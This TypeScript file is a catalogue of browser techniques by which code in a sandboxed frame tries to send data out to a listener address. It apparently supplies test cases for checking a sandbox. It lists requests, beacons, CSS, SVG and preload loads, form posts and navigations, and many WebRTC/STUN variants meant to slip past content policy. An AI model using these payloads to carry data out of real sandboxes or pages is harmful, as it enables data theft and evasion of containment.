/**
 * Ways in which a cell may try to carry something out of the sandboxed frame. Each is the text of a function's body that is given `out`, an address
 * of a listener that counts whatever arrives (listener.ts). Data alone: who runs them, and where, is another matter.
 */

/** Where a way tries to get to. */
export interface Out {
  /** `http://NAME:PORT/`, which no other way is given. */
  url: string;
  /** `NAME:PORT` of the same listener. */
  host: string;
  /** `ADDRESS:PORT` of a UDP listener. */
  udp: string;
}

export interface WayOut {
  name: string;
  /** It may take the document away, so nothing else can be tried in the same frame. */
  leaves?: true;
  /** Chromium opens a connection for it ahead of the check that stops it: nothing is sent, but the host's name is looked up. */
  connects?: true;
  code: string;
}

/** Puts markup into the document. */
const markup = (html: string) => `document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(html)}.replaceAll("URL", out.url).replaceAll("HOST", out.host))`;
const style = (css: string) => `const sheet = document.createElement("style"); sheet.textContent = ${JSON.stringify(css)}.replaceAll("URL", out.url); document.body.append(sheet)`;
const link = (attributes: string) => `const link = document.createElement("link"); Object.assign(link, {${attributes}, href: out.url}); document.head.append(link)`;
const click = (html: string) => `${markup(html)}; document.querySelector("#way").dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true, ctrlKey: false}))`;
const worker = (text: string, kind = "Worker") => `const made = new ${kind}(URL.createObjectURL(new Blob([${JSON.stringify(text)}.replaceAll("URL_OUT", out.url).replaceAll("HOST", out.host).replaceAll("UDP", out.udp)], {type: "text/javascript"}))); globalThis.madeHere = [...(globalThis.madeHere ?? []), made]`;

/** Asks a STUN server, whose name or user part would hold the secret, from any realm; `UDP` is the server. */
const stun = (constructor: string) => `const made = new (${constructor})({iceServers: [{urls: "stun:UDP"}]}); made.createDataChannel("way"); made.createOffer().then((offer) => made.setLocalDescription(offer)); globalThis.madeHere = [...(globalThis.madeHere ?? []), made]`;
const stunHere = (constructor: string) => stun(constructor).replace('"stun:UDP"', '"stun:" + out.udp');
const stunThere = (constructor = "globalThis.RTCPeerConnection") => `${JSON.stringify(stun(constructor))}.replaceAll("UDP", out.udp)`;
/** A frame inside the frame, and the way in which code gets into it. */
const nested = (setUp: string, then = "") => `const frame = document.createElement("iframe"); ${setUp}; document.body.append(frame); ${then}`;

export const waysOut: readonly WayOut[] = [
  // Requests.
  {name: "fetch", code: "await fetch(out.url)"},
  {name: "fetch without CORS", code: 'await fetch(out.url, {mode: "no-cors", keepalive: true, method: "POST", body: "secret"})'},
  {name: "XMLHttpRequest", code: 'const request = new XMLHttpRequest(); request.open("GET", out.url); request.send()'},
  {name: "beacon", code: 'navigator.sendBeacon(out.url, "secret")'},
  {name: "server-sent events", code: "new EventSource(out.url)"},
  {name: "WebSocket", code: 'new WebSocket("ws://" + out.host)'},
  {name: "WebSocketStream", code: 'new WebSocketStream("ws://" + out.host)'},
  {name: "WebTransport", code: 'const made = new WebTransport("https://" + out.udp); made.ready.catch(() => {})'},
  {name: "fetchLater", code: "globalThis.fetchLater(out.url, {activateAfter: 0})"},
  // Pictures, sound and letters.
  {name: "image", code: "new Image().src = out.url"},
  {name: "image set", code: markup('<img srcset="URL 1x, URL 2x"><picture><source srcset="URL"><img></picture>')},
  {name: "image button", code: markup('<input type="image" src="URL">')},
  {name: "background attribute", code: markup('<table background="URL"><tr><td background="URL">x</table>')},
  {name: "CSS image", code: style('body { background: url("URL"); cursor: url("URL"), auto } ::marker { content: url("URL") }')},
  {name: "CSS image set", code: style('body { border-image: image-set("URL" 1x) 1; mask: url("URL#m"); filter: url("URL#f"); clip-path: url("URL#c") }')},
  {name: "CSS import", code: style('@import url("URL");')},
  {name: "constructed style sheet", code: 'const sheet = new CSSStyleSheet(); sheet.replaceSync(`html { background: url("${out.url}") }`); document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]'},
  {name: "style sheet", code: link('rel: "stylesheet"')},
  {name: "font face", code: style('@font-face { font-family: way; src: url("URL") } body { font-family: way }')},
  {name: "FontFace", code: 'await new FontFace("way-out", `url("${out.url}")`).load()'},
  {name: "SVG image", code: markup('<svg width="9" height="9"><image href="URL" width="9" height="9"/><image xlink:href="URL" width="9" height="9"/></svg>')},
  {name: "SVG use", code: markup('<svg width="9" height="9"><use href="URL#a"/></svg>')},
  {name: "SVG filter", code: markup('<svg width="9" height="9"><filter id="way-f"><feImage href="URL"/></filter><rect width="9" height="9" filter="url(#way-f)"/></svg>')},
  {name: "SVG animation", code: markup('<svg width="9" height="9"><image width="9" height="9"><set attributeName="href" to="URL"/></image></svg>')},
  {name: "SVG script", code: 'const script = document.createElementNS("http://www.w3.org/2000/svg", "script"); script.setAttribute("href", out.url); document.body.append(script)'},
  {name: "video", code: markup('<video src="URL" poster="URL" preload="auto"></video>')},
  {name: "audio", code: markup('<audio preload="auto"><source src="URL"></audio>')},
  {name: "subtitles", code: markup('<video preload="auto"><track default kind="subtitles" src="URL"></video>')},
  {name: "artwork", code: 'navigator.mediaSession.metadata = new MediaMetadata({title: "x", artwork: [{src: out.url}]}); navigator.mediaSession.playbackState = "playing"'},
  {name: "base address", code: markup('<base href="URL"><img src="a.png">')},
  {name: "shadow root", code: 'const host = document.body.appendChild(document.createElement("div")); host.attachShadow({mode: "open"}).innerHTML = `<img src="${out.url}"><link rel="stylesheet" href="${out.url}">`'},
  // Scripts and workers.
  {name: "script", code: 'const script = document.createElement("script"); script.src = out.url; document.body.append(script)'},
  {name: "import", code: "await import(out.url)"},
  {name: "worker by address", code: "new Worker(out.url)"},
  {name: "fetch in a worker", code: worker('fetch("URL_OUT", {mode: "no-cors"})')},
  {name: "import in a worker", code: worker('importScripts("URL_OUT")')},
  {name: "WebSocket in a worker", code: worker('new WebSocket("ws://HOST")')},
  {name: "WebTransport in a worker", code: worker('new WebTransport("https://UDP").ready.catch(() => {})')},
  {name: "fetch in a shared worker", code: worker('fetch("URL_OUT", {mode: "no-cors"})', "SharedWorker")},
  {name: "fetch in a worker's worker", code: worker('new Worker(URL.createObjectURL(new Blob([`fetch("URL_OUT", {mode: "no-cors"})`])))')},
  {name: "audio worklet", code: "await new AudioContext().audioWorklet.addModule(out.url)"},
  {name: "paint worklet", code: "await CSS.paintWorklet.addModule(out.url)"},
  {name: "service worker", code: "await navigator.serviceWorker.register(out.url)"},
  // What a browser does ahead of time.
  {name: "name look-up ahead", code: link('rel: "dns-prefetch"')},
  {name: "connection ahead", code: link('rel: "preconnect"')},
  {name: "connection ahead in markup", code: markup('<link rel="preconnect dns-prefetch" href="URL" crossorigin>')},
  {name: "prefetch", code: link('rel: "prefetch"')},
  {name: "preload", code: `for (const as of ["image", "script", "style", "font", "fetch", "track", "video"]) { ${link('rel: "preload", as')} }`},
  {name: "module ahead", code: link('rel: "modulepreload"')},
  {name: "prerender", code: link('rel: "prerender"')},
  {name: "icon", code: link('rel: "icon"')},
  {name: "manifest", code: link('rel: "manifest"')},
  {name: "dictionary", code: link('rel: "compression-dictionary"')},
  {name: "speculation rules", code: 'const rules = document.createElement("script"); rules.type = "speculationrules"; rules.textContent = JSON.stringify({prefetch: [{source: "list", urls: [out.url], eagerness: "immediate"}], prerender: [{source: "list", urls: [out.url], eagerness: "immediate"}]}); document.head.append(rules)'},
  {name: "link in sight", code: markup('<a href="URL">a link</a>')},
  {name: "link pointed at", code: `${markup('<a id="way-point" href="URL" style="position: fixed; inset: 0">a link</a>')}; for (const type of ["pointerover", "pointerenter", "mouseover", "pointerdown", "mousedown", "touchstart"]) document.querySelector("#way-point").dispatchEvent(new PointerEvent(type, {bubbles: true})); document.querySelector("#way-point").remove()`},
  // Other parts of the platform that ask for addresses.
  {name: "CSP report", code: markup("<meta http-equiv=\"Content-Security-Policy\" content=\"img-src 'none'; report-uri URL\"><img src=\"data:,x\">")},
  {name: "XSLT", code: 'const sheet = new DOMParser().parseFromString(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${out.url}"/><xsl:template match="/"><a><xsl:copy-of select="document(\'${out.url}\')"/></a></xsl:template></xsl:stylesheet>`, "text/xml"); const processor = new XSLTProcessor(); processor.importStylesheet(sheet); processor.transformToFragment(sheet, document)'},
  {name: "XML entity", code: 'new DOMParser().parseFromString(`<!DOCTYPE a [<!ENTITY e SYSTEM "${out.url}">]><a>&e;</a>`, "text/xml")'},
  {name: "attribution", code: 'const picture = new Image(); picture.setAttribute("attributionsrc", out.url); picture.src = "data:,x"; document.body.append(picture)'},
  {name: "payment", code: 'await new PaymentRequest([{supportedMethods: out.url}], {total: {label: "x", amount: {currency: "EUR", value: "1"}}}).canMakePayment()'},
  {name: "federated sign-in", code: 'await navigator.credentials.get({identity: {providers: [{configURL: out.url, clientId: "x"}]}})'},
  {name: "notification", code: 'new Notification("x", {icon: out.url})'},
  // Documents inside the document.
  {name: "frame", connects: true, code: markup('<iframe src="URL"></iframe>')},
  {name: "frame sent elsewhere", connects: true, code: nested("", "frame.contentWindow.location = out.url")},
  {name: "frame that sends itself", connects: true, code: nested('frame.srcdoc = `<meta http-equiv="refresh" content="0; url=${out.url}"><img src="${out.url}"><link rel="stylesheet" href="${out.url}">`')},
  {name: "frame without credentials", connects: true, code: nested("frame.credentialless = true; frame.src = out.url")},
  {name: "fenced frame", code: 'const frame = document.createElement("fencedframe"); frame.config = new FencedFrameConfig(out.url); document.body.append(frame)'},
  {name: "object", code: markup('<object data="URL"></object><embed src="URL">')},
  // The document itself goes.
  {name: "location", leaves: true, connects: true, code: "location.href = out.url"},
  {name: "replaced location", leaves: true, connects: true, code: "location.replace(out.url)"},
  {name: "link", leaves: true, connects: true, code: click('<a id="way" href="URL">a link</a>')},
  {name: "SVG link", leaves: true, connects: true, code: click('<svg><a id="way" href="URL"><text>a link</text></a></svg>')},
  {name: "link with a ping", leaves: true, code: click('<a id="way" href="#here" ping="URL">a link</a>')},
  {name: "link to download", leaves: true, connects: true, code: click('<a id="way" href="URL" download="x">a link</a>')},
  {name: "form", leaves: true, code: `${markup('<form id="way" action="URL"><input name="a" value="secret"></form>')}; document.querySelector("#way").submit()`},
  {name: "posted form", leaves: true, code: `${markup('<form id="way" action="URL" method="post"><input name="a" value="secret"><button formaction="URL">x</button></form>')}; document.querySelector("#way button").click()`},
  {name: "refresh", leaves: true, connects: true, code: 'const meta = document.createElement("meta"); meta.httpEquiv = "refresh"; meta.content = "0; url=" + out.url; document.head.append(meta)'},
  {name: "navigation", leaves: true, code: "globalThis.navigation.navigate(out.url)"},
  {name: "own window", leaves: true, connects: true, code: 'window.open(out.url, "_self")'},
  {name: "window", leaves: true, code: 'window.open(out.url) ?? window.open(out.url, "_blank", "noopener")'},
  {name: "link to a window", leaves: true, code: click('<a id="way" href="URL" target="_blank" rel="noreferrer">a link</a>')},
  {name: "page around", leaves: true, code: "window.top.location = out.url"},
  {name: "link to the page around", leaves: true, code: click('<a id="way" href="URL" target="_top">a link</a>')},
  {name: "document written anew", leaves: true, code: 'document.open(); document.write(`<meta http-equiv="refresh" content="0; url=${out.url}"><link rel="stylesheet" href="${out.url}"><img src="${out.url}">`); document.close()'},
  // WebRTC asks a server of the cell's choosing by UDP, and no policy of content holds it; what makes a realm makes another WebRTC.
  {name: "WebRTC", code: stunHere("RTCPeerConnection")},
  {name: "WebRTC by its old name", code: stunHere("globalThis.webkitRTCPeerConnection")},
  {name: "WebRTC in a worker", code: worker(stun("globalThis.RTCPeerConnection"))},
  {name: "WebRTC of a blank frame", code: nested("", stunHere("frame.contentWindow.RTCPeerConnection"))},
  {name: "WebRTC of a frame in markup", code: `document.body.insertAdjacentHTML("beforeend", '<iframe id="way-rtc"></iframe>'); ${stunHere("window[window.length - 1].RTCPeerConnection")}`},
  {name: "WebRTC of a frame in a shadow root", code: `const host = document.body.appendChild(document.createElement("div")); host.attachShadow({mode: "closed"}).innerHTML = "<iframe></iframe>"; ${stunHere("window[window.length - 1].RTCPeerConnection")}`},
  {name: "WebRTC of an object", code: `const frame = document.createElement("object"); frame.data = "about:blank"; document.body.append(frame); ${stunHere("frame.contentWindow.RTCPeerConnection")}`},
  {name: "WebRTC by the first script", code: nested('frame.srcdoc = `<script>${document.querySelector("script").textContent}</script>`; frame.onload = () => { frame.contentWindow.postMessage({kind: "diagonal-start", code: "export function start() {};" + ' + stunThere() + '}, "*") }')},
  {name: "WebRTC by a blob's script", code: nested(`frame.srcdoc = \`<script src="\${URL.createObjectURL(new Blob([${stunThere()}], {type: "text/javascript"}))}"></script>\``)},
  {name: "WebRTC by a script in markup", code: nested(`frame.srcdoc = \`<script>\${${stunThere()}}</script><img src="x:" onerror='\${${stunThere()}}'>\``)},
  {name: "WebRTC of a javascript address", code: nested(`frame.src = "javascript:" + ${stunThere()}`)},
  {name: "WebRTC of a data address", code: nested(`frame.src = "data:text/html,<script>" + ${stunThere()} + "</script>"`)},
  {name: "WebRTC of a blob's document", code: nested(`frame.src = URL.createObjectURL(new Blob(["<script>" + ${stunThere()} + "</script>"], {type: "text/html"}))`)},
  {name: "WebRTC of a written document", code: nested("", `frame.contentDocument.write("<script>" + ${stunThere()} + "</script>")`)},
  {name: "WebRTC of a window", code: stunHere("window.open('about:blank').RTCPeerConnection")},
  {name: "WebRTC by its own objects", code: `const {get} = Object.getOwnPropertyDescriptor(Event.prototype, "target") ?? {}; ${stunHere("(globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection).prototype.constructor")}`},
  {name: "WebRTC after a document was opened", leaves: true, code: `document.open(); document.write("<p>new</p>"); document.close(); ${stunHere("window.RTCPeerConnection")}`}
];
